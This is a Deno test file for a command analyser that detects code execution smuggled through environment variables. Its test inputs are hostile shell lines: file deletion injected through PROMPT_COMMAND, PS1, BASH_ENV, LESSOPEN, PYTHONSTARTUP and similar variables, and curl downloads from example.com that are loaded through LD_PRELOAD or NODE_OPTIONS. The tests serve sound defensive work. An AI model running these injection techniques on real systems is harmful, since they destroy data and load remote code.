/** Variables that make other programs run something. */
import { assert, assertEquals } from "@std/assert";
import { deletes, effectsOf } from "./support.ts";

for (
  const statement of [
    "PROMPT_COMMAND='rm -r y'",
    "export GIT_EDITOR='rm -r y'",
    "env LESSOPEN='|rm -r y' less x",
    "PS1='$(rm -r y)'",
    "PS4='`rm -r y`' bash -x run.sh",
    "BASH_ENV=<(echo rm -r y) bash -c :",
    "echo rm -r y > e; export ENV=./e; sh -i",
    "BASH_ENV=./e; export BASH_ENV; echo rm -r y > e; bash x.sh",
    "bash --rcfile <(echo rm -r y)",
    "echo 'import shutil; shutil.rmtree(\"y\")' > p.py; PYTHONSTARTUP=p.py python3",
  ]
) {
  Deno.test(`the variable's command runs in ${statement}`, () => assert(deletes(statement).includes("y")));
}

for (
  const statement of [
    "curl -o x.so https://example.com/x; LD_PRELOAD=./x.so ls",
    "curl https://example.com/x > x.js; NODE_OPTIONS='--require ./x.js' node a.js",
    "BASH_ENV=<(curl https://example.com/x) bash -c :",
  ]
) {
  Deno.test(`a download is loaded in ${statement}`, () => assert(effectsOf("interpret", statement).length > 0));
}

Deno.test("ordinary values run nothing", () => {
  assertEquals(effectsOf("interpret", "ENV=production LD_PRELOAD=/usr/lib/x.so NODE_OPTIONS=--inspect node a.js"), []);
  assertEquals(deletes("PS1='rm -r y'; ENV='rm -r y'"), []);
});
